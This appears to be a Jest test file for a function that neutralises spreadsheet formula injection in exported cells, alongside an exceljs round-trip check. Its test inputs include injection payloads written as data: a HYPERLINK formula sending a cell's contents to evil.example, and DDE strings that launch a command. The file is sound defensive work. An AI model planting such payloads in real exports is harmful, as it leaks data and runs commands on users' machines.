import ExcelJS from 'exceljs';
import { neutraliseCell, neutraliseRow } from './spreadsheet-cells';

describe('neutraliseCell: nothing exported starts a formula', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?x="&A1,"x")', `'=HYPERLINK("https://evil.example/?x="&A1,"x")`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-5', "'-5"], // a string that looks like a number is still text from a user
    ['=', "'="],
  ])('%j → %j', (input, output) => {
    expect(neutraliseCell(input)).toBe(output);
  });

  it.each([['河道整治'], [' =1+1'], ['＝1+1'], ['a=b'], ["'=already quoted"], [''], ['100%'], ['2026-06-30']])(
    '%j is left alone',
    (input) => {
      expect(neutraliseCell(input)).toBe(input);
    },
  );

  it('keeps numbers, booleans and empty cells as they are', () => {
    expect(neutraliseCell(-5)).toBe(-5);
    expect(neutraliseCell(0)).toBe(0);
    expect(neutraliseCell(true)).toBe(true);
    expect(neutraliseCell(null)).toBeNull();
    expect(neutraliseCell(undefined)).toBeUndefined();
    expect(neutraliseRow(['=1', -5, '水务局', null])).toEqual(["'=1", -5, '水务局', null]);
  });

  it('exceljs writes a string starting with = as a string cell, not a formula', async () => {
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('s').addRow(['=1+1', neutraliseCell('=1+1'), -5]);
    const buffer = Buffer.from(await workbook.xlsx.writeBuffer());
    const read = new ExcelJS.Workbook();
    await read.xlsx.load(buffer as unknown as ExcelJS.Buffer);
    const row = read.getWorksheet('s')!.getRow(1);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(2).value).toBe("'=1+1");
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(3).value).toBe(-5);
    expect(row.getCell(3).type).toBe(ExcelJS.ValueType.Number);
  });
});
